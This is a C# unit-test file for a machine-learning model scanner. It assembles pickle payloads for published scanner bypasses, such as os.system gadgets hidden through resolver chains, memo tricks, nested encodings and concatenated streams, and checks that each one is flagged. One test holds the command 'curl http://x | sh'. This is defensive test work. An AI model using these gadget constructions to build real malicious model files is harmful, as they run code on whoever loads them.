using System.Text;

namespace ModelAudit.Engine.Tests;

/// <summary>
/// The published bypasses of peers.md §6 A–C, each as a hand-assembled pickle, with the finding it must give.
/// Payloads are harmless strings; nothing is ever unpickled.
/// </summary>
public sealed class PickleBypassTests
{
    private static ModelScanResult ScanPickle(PickleBuilder pickle, string name = "model.pkl") => Scan.Bytes(pickle.ToArray(), name);

    // A-3: importlib.import_module('os') → inspect.getattr_static(module, 'system') → call.
    [Fact]
    public void A3_resolver_chain_import_module_then_getattr_static()
    {
        var p = new PickleBuilder().Proto(4)
            .Str("inspect").Str("getattr_static").StackGlobal()
            .Mark().Call("importlib", "import_module", "os").Str("system").Tuple().Reduce()
            .Mark().Str("echo pwned").Tuple().Reduce().Stop();
        ModelScanResult result = ScanPickle(p);
        Assert.True(result.Has("MA1002", Severity.Critical), result.Describe());
        Assert.Contains(result.Findings, f => f.RuleId == "MA1001" && f.Message.Contains("obtained at load time", StringComparison.Ordinal));
    }

    // A-3: __import__('os') then _operator.methodcaller('system', cmd)(module) (GHSA-955r).
    [Fact]
    public void A3_dunder_import_and_methodcaller()
    {
        var p = new PickleBuilder().Proto(4)
            .Str("_operator").Str("methodcaller").StackGlobal().Mark().Str("system").Str("id").Tuple().Reduce()
            .Mark().Call("builtins", "__import__", "os").Tuple().Reduce().Stop();
        ModelScanResult result = ScanPickle(p);
        Assert.Equal(2, result.Findings.Count(f => f.RuleId == "MA1002" && f.Severity == Severity.Critical));
    }

    // A-3 / B-4: numpy.__builtins__ with builtins.dict.get(…, 'exec') (modelscan #89/#330).
    [Fact]
    public void A3_numpy_builtins_and_dict_get()
    {
        var p = new PickleBuilder().Proto(4)
            .Str("builtins").Str("dict.get").StackGlobal()
            .Mark().Str("numpy").Str("__builtins__").StackGlobal().Str("exec").Tuple().Reduce()
            .Mark().Str("print(1)").Tuple().Reduce().Stop();
        ModelScanResult result = ScanPickle(p);
        Assert.Contains(result.Findings, f => f.Evidence == "numpy.__builtins__" && f.Severity == Severity.Critical);
        Assert.Contains(result.Findings, f => f.Evidence!.StartsWith("builtins.dict.get(", StringComparison.Ordinal) && f.Severity == Severity.Critical);
    }

    // A-4: types.FunctionType(marshal.loads(bytes), {})() with a marshalled code object.
    [Fact]
    public void A4_marshal_and_function_type()
    {
        byte[] code = new byte[64];
        code[0] = 0xE3;
        code[21] = 0xF3;
        code[22] = 8;
        var p = new PickleBuilder().Proto(4)
            .Str("types").Str("FunctionType").StackGlobal()
            .Mark().Str("marshal").Str("loads").StackGlobal().Mark().Bytes(code).Tuple().Reduce().EmptyDict().Tuple().Reduce()
            .EmptyTuple().Reduce().Stop();
        ModelScanResult result = ScanPickle(p);
        Assert.True(result.Has("MA1004", Severity.Critical), result.Describe());
        Assert.True(result.Has("MA1017", Severity.Critical), result.Describe());
    }

    // A-5: pickle.loads of a payload built by _codecs.encode(latin1 text, 'latin1'), as protocol 2 writes bytes.
    [Fact]
    public void A5_nested_payload_through_codecs_encode()
    {
        string inner = Encoding.Latin1.GetString(PickleBuilder.Gadget("os", "system", "id"));
        var p = new PickleBuilder().Proto(2)
            .Global("pickle", "loads").Mark().Global("_codecs", "encode").Mark().Str(inner).Str("latin1").Tuple().Reduce().Tuple().Reduce().Stop();
        ModelScanResult result = ScanPickle(p);
        Assert.True(result.Has("MA1003", Severity.Critical), result.Describe());
        Assert.Contains(result.Findings, f => f.RuleId == "MA1001" && f.Member is not null);
    }

    // A-7: scanner deactivation.
    [Fact]
    public void A7_scanner_tampering()
    {
        ModelScanResult result = Scan.Bytes(PickleBuilder.Gadget("fickling.hook", "remove_hook"), "model.pkl");
        Assert.True(result.Has("MA1015", Severity.Critical), result.Describe());
    }

    // B-1 and B-3: OS aliases and Python 2 names remapped below protocol 3.
    [Theory]
    [InlineData("nt", "system", "MA1001")]
    [InlineData("posix", "system", "MA1001")]
    [InlineData("commands", "getoutput", "MA1001")]
    [InlineData("__builtin__", "eval", "MA1001")]
    [InlineData("__builtin__", "reduce", "MA1001")]
    [InlineData("cPickle", "loads", "MA1003")]
    [InlineData("copy_reg", "add_extension", "MA1020")]
    [InlineData("urllib2", "urlopen", "MA1010")]
    public void B1_B3_aliases_and_python2_names(string module, string name, string rule)
    {
        var p = new PickleBuilder().Global(module, name).Mark().Text("x").Tuple().Reduce().Stop();
        ModelScanResult result = ScanPickle(p);
        Assert.True(result.Has(rule), result.Describe());
    }

    // B-4: dotted traversal through another module's globals (protocol 4).
    [Theory]
    [InlineData("pathlib", "os.system")]
    [InlineData("numpy", "prod.os.system")]
    [InlineData("builtins", "eval.__call__")]
    [InlineData("collections", "OrderedDict.__init__.__globals__")]
    public void B4_dotted_traversal_is_caught_on_every_component(string module, string name)
    {
        ModelScanResult result = Scan.Bytes(PickleBuilder.Gadget(module, name), "model.pkl");
        Assert.Contains(result.Findings, f => f.Severity == Severity.Critical);
    }

    // B-4 converse: an allowlisted pair only matches the full dotted name exactly.
    [Fact]
    public void B4_allowlist_requires_the_exact_name()
    {
        Assert.Empty(Scan.Bytes(new PickleBuilder().Proto(4).Str("collections").Str("OrderedDict").StackGlobal().EmptyTuple().Reduce().Stop().ToArray()).Findings);
        ModelScanResult dotted = Scan.Bytes(PickleBuilder.Gadget("collections", "OrderedDict.fromkeys"), "model.pkl");
        Assert.True(dotted.Has("MA1008", Severity.Warning), dotted.Describe());
    }

    // B-5: package re-exports.
    [Theory]
    [InlineData("requests", "get", "MA1010")]
    [InlineData("torch", "load", "MA1003")]
    [InlineData("aiohttp", "ClientSession", "MA1010")]
    [InlineData("asyncio.unix_events", "_UnixSubprocessTransport._start", "MA1001")]
    public void B5_re_exports_and_submodules(string module, string name, string rule) =>
        Assert.True(Scan.Bytes(PickleBuilder.Gadget(module, name), "model.pkl").Has(rule));

    // C-1: STACK_GLOBAL operands come from the memo, with decoy strings right before.
    [Fact]
    public void C1_stack_global_operands_from_the_memo()
    {
        var p = new PickleBuilder().Proto(4).Str("os").Put(0).Pop().Str("system").Put(1).Pop()
            .Str("torch").Str("LongStorage").Pop().Pop()
            .Get(0).Get(1).StackGlobal().Mark().Str("id").Tuple().Reduce().Stop();
        ModelScanResult result = ScanPickle(p);
        Assert.Contains(result.Findings, f => f.RuleId == "MA1001" && f.Evidence == "os.system('id')");
    }

    // C-2: modelscan #85 — names set by BUILD on numpy.prod, then read back: a dynamic import.
    [Fact]
    public void C2_operands_that_are_not_string_constants_are_a_dynamic_import()
    {
        var p = new PickleBuilder().Proto(4)
            .Global("numpy", "prod").Mark().Str("a").Str("os").Str("b").Str("system").Op('d').Build().Pop()
            .Global("numpy", "prod.a").Put(0).Global("numpy", "prod.b").Put(1).Pop().Pop()
            .Get(0).Get(1).StackGlobal().Mark().Str("id").Tuple().Reduce().Stop();
        ModelScanResult result = ScanPickle(p);
        Assert.True(result.Has("MA1005", Severity.Critical), result.Describe());
        Assert.True(result.Has("MA1014", Severity.Critical), result.Describe());
    }

    // C-3: BUILD on an imported module replaces its attributes.
    [Fact]
    public void C3_build_on_an_imported_module()
    {
        var p = new PickleBuilder().Proto(4).Global("torch._utils", "_rebuild_tensor").Mark().Str("x").Str("y").Op('d').Build().Stop();
        Assert.True(ScanPickle(p).Has("MA1014", Severity.Critical));
    }

    // C-4: a memo key that was never stored fails closed: Inconclusive, never Clean.
    [Fact]
    public void C4_missing_memo_key_is_inconclusive()
    {
        ModelScanResult result = ScanPickle(new PickleBuilder().Proto(2).EmptyDict().Get(7).SetItem().Stop());
        Assert.Equal(ScanOutcome.Inconclusive, result.Outcome);
        Assert.True(result.Has("MA9001") || result.Has("MA9004"), result.Describe());
    }

    // C-5: STRING operands and STACK_GLOBAL with no PROTO.
    [Fact]
    public void C5_stack_global_without_proto_and_string_operands()
    {
        var p = new PickleBuilder().Text("os").Text("system").StackGlobal().Mark().Text("id").Tuple().Reduce().Stop();
        ModelScanResult result = ScanPickle(p);
        Assert.Equal("Pickle", result.Format);
        Assert.True(result.Has("MA1001", Severity.Critical), result.Describe());
    }

    // C-6: calls through INST, OBJ, NEWOBJ, and SETITEM on a tensor (CVE-2026-24747).
    [Fact]
    public void C6_inst_and_obj_are_calls()
    {
        Assert.True(ScanPickle(new PickleBuilder().Mark().Text("id").Inst("os", "system").Stop()).Has("MA1001", Severity.Critical));
        Assert.True(ScanPickle(new PickleBuilder().Proto(2).Mark().Global("subprocess", "Popen").Text("id").Obj().Stop()).Has("MA1001", Severity.Critical));
        Assert.True(ScanPickle(new PickleBuilder().Proto(2).Global("subprocess", "Popen").EmptyTuple().NewObj().Stop()).Has("MA1001", Severity.Critical));
    }

    [Fact]
    public void C6_setitem_on_a_rebuilt_tensor()
    {
        var p = new PickleBuilder().Proto(2).Global("torch._utils", "_rebuild_tensor_v2").Mark().Int(1).Tuple().Reduce()
            .Int(0).Int(1).SetItem().Stop();
        ModelScanResult result = ScanPickle(p);
        Assert.Contains(result.Findings, f => f.RuleId == "MA1018" && f.Cve.Contains("CVE-2026-24747"));
    }

    // C-7: EXT opcodes resolved through copyreg registrations made in the stream; unregistered codes are Critical.
    [Fact]
    public void C7_extension_registered_then_used()
    {
        var p = new PickleBuilder().Proto(2)
            .Global("copyreg", "add_extension").Mark().Text("os").Text("system").Int(240).Tuple().Reduce().Pop()
            .Ext1(240).Mark().Text("id").Tuple().Reduce().Stop();
        ModelScanResult result = ScanPickle(p);
        Assert.True(result.Has("MA1020", Severity.Critical), result.Describe());
        Assert.Contains(result.Findings, f => f.RuleId == "MA1001" && f.Evidence == "os.system('id')");
    }

    [Fact]
    public void C7_unregistered_extension()
    {
        ModelScanResult result = ScanPickle(new PickleBuilder().Proto(2).Ext2(4242).EmptyTuple().Reduce().Stop());
        Assert.True(result.Has("MA1006", Severity.Critical), result.Describe());
    }

    // C-8: the payload is in the second of two concatenated pickles, or hidden after junk past the first STOP.
    [Fact]
    public void C8_payload_in_a_second_stream()
    {
        byte[] benign = new PickleBuilder().Proto(4).EmptyDict().Stop().ToArray();
        ModelScanResult result = Scan.Bytes(benign.Concat(PickleBuilder.Gadget("os", "system", "id")).ToArray(), "model.pkl");
        Assert.True(result.Has("MA1001"), result.Describe());
    }

    [Fact]
    public void C8_payload_hidden_after_junk()
    {
        byte[] benign = new PickleBuilder().Proto(4).EmptyDict().Stop().ToArray();
        byte[] junk = Enumerable.Repeat((byte)0xEE, 300).ToArray();
        ModelScanResult result = Scan.Bytes(benign.Concat(junk).Concat(PickleBuilder.Gadget("os", "system", "id")).ToArray(), "model.pkl");
        Assert.True(result.Has("MA1018"), result.Describe());
        Assert.Contains(result.Findings, f => f.RuleId == "MA1001" && f.Member!.StartsWith("pickle@", StringComparison.Ordinal));
    }

    // C-9: truncated after the payload ran: the finding stays, and coverage is Inconclusive-grade (reported).
    [Fact]
    public void C9_truncated_after_the_payload()
    {
        byte[] full = PickleBuilder.Gadget("os", "system", "id");
        ModelScanResult result = Scan.Bytes(full[..^1], "model.pkl");
        Assert.True(result.Has("MA1001", Severity.Critical), result.Describe());
        Assert.True(result.Has("MA9001"), result.Describe());
        Assert.Equal(ScanOutcome.Issues, result.Outcome);
    }

    [Fact]
    public void C9_broken_after_the_payload()
    {
        byte[] full = PickleBuilder.Gadget("os", "system", "id");
        byte[] broken = full[..^1].Concat(new byte[] { 0xFF, 0xFF }).ToArray();
        ModelScanResult result = Scan.Bytes(broken, "model.pkl");
        Assert.True(result.Has("MA1001", Severity.Critical), result.Describe());
        Assert.True(result.Has("MA9001"), result.Describe());
    }

    // C-10: an opcode straddles the end of its FRAME.
    [Fact]
    public void C10_opcode_crossing_a_frame_boundary()
    {
        var p = new PickleBuilder().Proto(4).Frame(3).Str("abcdef").Pop().EmptyDict().Stop();
        ModelScanResult result = ScanPickle(p);
        Assert.True(result.Has("MA1007", Severity.Critical), result.Describe());
    }

    [Fact]
    public void C10_frame_opened_inside_a_frame()
    {
        var p = new PickleBuilder().Proto(4).Frame(30).EmptyDict().Frame(2).Pop().EmptyDict().Stop();
        Assert.True(ScanPickle(p).Has("MA1007"));
    }

    // C-11: a second PROTO inside a stream.
    [Fact]
    public void C11_duplicate_proto()
    {
        ModelScanResult result = ScanPickle(new PickleBuilder().Proto(4).EmptyDict().Proto(2).Stop());
        Assert.True(result.Has("MA1018", Severity.Warning), result.Describe());
    }

    // C-13: budgets end in Inconclusive (a 9xxx rule), never in a false "malicious".
    [Fact]
    public void C13_opcode_budget_is_inconclusive_not_malicious()
    {
        var p = new PickleBuilder().Proto(4).EmptyList().Mark();
        for (int i = 0; i < 2000; i++)
        {
            p.Int(i % 200);
        }

        p.Op('e').Stop();
        var options = new Scanning.ScanOptions { Limits = new Scanning.ScanLimits { MaxPickleOpcodes = 500 } };
        ModelScanResult result = Scan.Bytes(p.ToArray(), "model.pkl", options);
        Assert.Equal(ScanOutcome.Inconclusive, result.Outcome);
        Assert.True(result.Has("MA9002"), result.Describe());
        Assert.DoesNotContain(result.Findings, f => f.Severity > Severity.Info);
    }

    // C-14: GLOBAL arguments that are not valid UTF-8: both CPython unpicklers decode them strictly and fail at the
    // import, before REDUCE. Nothing runs, but the .pkl is not a readable model either: Inconclusive, never Clean.
    [Fact]
    public void C14_non_utf8_global_arguments()
    {
        byte[] p = new PickleBuilder().Raw("c").Raw(new byte[] { (byte)'o', (byte)'s', 0xFF }).Raw("\nsystem\n").Mark().Text("id").Tuple().Reduce().Stop().ToArray();
        ModelScanResult result = Scan.Bytes(p, "model.pkl");
        Assert.Equal(ScanOutcome.Inconclusive, result.Outcome);
        Assert.True(result.Has("MA9001") || result.Has("MA9004"), result.Describe());
    }

    // A bad name after a real call: CPython has already run os.system when it fails, so the call stays Critical and the
    // failure is reported beside it.
    [Fact]
    public void C14_a_non_utf8_import_after_a_real_call_keeps_the_call()
    {
        byte[] p = new PickleBuilder().Global("os", "system").Mark().Text("id").Tuple().Reduce().Pop()
            .Raw("c").Raw(new byte[] { (byte)'o', (byte)'s', 0xFF }).Raw("\nsystem\n").Stop().ToArray();
        ModelScanResult result = Scan.Bytes(p, "model.pkl");
        Assert.True(result.Has("MA1001", Severity.Critical), result.Describe());
        Assert.True(result.Has("MA9001"), result.Describe());
    }

    // Findings name the callable, the opcode and offset, and a reconstruction of the call.
    [Fact]
    public void Findings_reconstruct_the_call()
    {
        ModelScanResult result = Scan.Bytes(PickleBuilder.Gadget("os", "system", "curl http://x | sh"), "model.pkl");
        ModelFinding f = Assert.Single(result.Findings);
        Assert.Equal("os.system('curl http://x | sh')", f.Evidence);
        Assert.Contains("REDUCE", f.Message);
        Assert.NotNull(f.Offset);
    }

    // Unknown third-party classes: instantiated and filled with data is Info; called is a Warning.
    [Fact]
    public void Unknown_classes_are_graded_by_use()
    {
        ModelScanResult built = ScanPickle(new PickleBuilder().Proto(2).Global("mylib.models", "Net").EmptyTuple().NewObj().EmptyDict().Build().Stop());
        Assert.Equal(ScanOutcome.Clean, built.Outcome);
        Assert.True(built.Has("MA1012", Severity.Info), built.Describe());

        ModelScanResult called = ScanPickle(new PickleBuilder().Proto(2).Global("mylib.models", "make").EmptyTuple().Reduce().Stop());
        Assert.True(called.Has("MA1008", Severity.Warning), called.Describe());
    }

    // C-12: the payload's result is thrown away with POP before the benign object is built.
    [Fact]
    public void C12_discarded_call_result_is_still_reported()
    {
        var p = new PickleBuilder().Proto(4).Call("os", "system", "id").Pop().EmptyDict().Stop();
        Assert.True(ScanPickle(p).Has("MA1001", Severity.Critical));
    }

    // D-2: a PyTorch legacy file whose magic number is produced by eval instead of a literal.
    [Fact]
    public void D2_legacy_magic_made_by_eval()
    {
        byte[] magic = new PickleBuilder().Proto(2).Call("builtins", "eval", "0x1950a86a20f9469cfc6c").Stop().ToArray();
        byte[] rest = new PickleBuilder().Proto(2).Int(1001).Stop().ToArray();
        ModelScanResult result = Scan.Bytes(magic.Concat(rest).ToArray(), "model.pt");
        Assert.Contains(result.Findings, f => f.RuleId == "MA1001" && f.Evidence == "builtins.eval('0x1950a86a20f9469cfc6c')");
    }

    // A pickle need not start with PROTO: any pushing opcode can come first, and the file is still found by content.
    [Fact]
    public void A_pickle_that_starts_with_a_protocol_4_opcode_and_no_proto()
    {
        var p = new PickleBuilder().Str("os").Str("system").StackGlobal().Mark().Str("id").Tuple().Reduce().Stop();
        ModelScanResult result = Scan.Bytes(p.ToArray(), "weights.dat");
        Assert.Equal("Pickle", result.Format);
        Assert.True(result.Has("MA1001", Severity.Critical), result.Describe());
    }

    // Python 3.11 writes enum members as getattr(Class, 'NAME'): graded as the member, not as a resolver.
    [Fact]
    public void Enum_members_through_getattr_are_not_a_resolver()
    {
        var p = new PickleBuilder().Proto(4).Str("builtins").Str("getattr").StackGlobal()
            .Str("transformers.trainer_utils").Str("IntervalStrategy").StackGlobal().Str("STEPS").Tuple2().Reduce().Stop();
        ModelScanResult result = ScanPickle(p);
        Assert.Equal(ScanOutcome.Clean, result.Outcome);
        Assert.Empty(result.Findings);
    }

    [Theory]
    [InlineData("builtins", "object", "__subclasses__")]
    [InlineData("pathlib", "os", "system")]
    public void Getattr_that_reaches_something_dangerous_is_still_critical(string module, string name, string attribute)
    {
        var p = new PickleBuilder().Proto(4).Str("builtins").Str("getattr").StackGlobal()
            .Str(module).Str(name).StackGlobal().Str(attribute).Tuple2().Reduce().EmptyTuple().Reduce().Stop();
        ModelScanResult result = ScanPickle(p);
        Assert.Contains(result.Findings, f => f.Severity == Severity.Critical);
    }

    [Fact]
    public void A_method_fetched_by_getattr_and_called_is_a_warning()
    {
        var p = new PickleBuilder().Proto(4).Str("builtins").Str("getattr").StackGlobal()
            .Str("collections").Str("OrderedDict").StackGlobal().Str("fromkeys").Tuple2().Reduce().Mark().Str("x").Tuple().Reduce().Stop();
        ModelScanResult result = ScanPickle(p);
        Assert.Contains(result.Findings, f => f.RuleId == "MA1008" && f.Evidence == "collections.OrderedDict.fromkeys('x')");
    }

    // A-5: the nested payload hex-encoded in a string, and gzip-compressed in a bytes argument.
    [Fact]
    public void A5_hex_encoded_nested_pickle()
    {
        string hex = Convert.ToHexString(PickleBuilder.Gadget("os", "system", "id"));
        ModelScanResult result = ScanPickle(new PickleBuilder().Proto(4).Str(hex).Stop());
        Assert.True(result.Has("MA1013", Severity.Warning), result.Describe());
        Assert.Contains(result.Findings, f => f.RuleId == "MA1001" && f.Member!.StartsWith("hex@", StringComparison.Ordinal));
    }

    [Fact]
    public void A5_gzip_compressed_nested_pickle()
    {
        var gz = new MemoryStream();
        using (var z = new System.IO.Compression.GZipStream(gz, System.IO.Compression.CompressionLevel.Fastest, leaveOpen: true))
        {
            z.Write(PickleBuilder.Gadget("os", "system", "id"));
        }

        var p = new PickleBuilder().Proto(4).Str("pickle").Str("loads").StackGlobal()
            .Mark().Str("gzip").Str("decompress").StackGlobal().Mark().Bytes(gz.ToArray()).Tuple().Reduce().Tuple().Reduce().Stop();
        ModelScanResult result = ScanPickle(p);
        Assert.Contains(result.Findings, f => f.RuleId == "MA1001" && f.Member!.StartsWith("compressed@", StringComparison.Ordinal));
    }
}
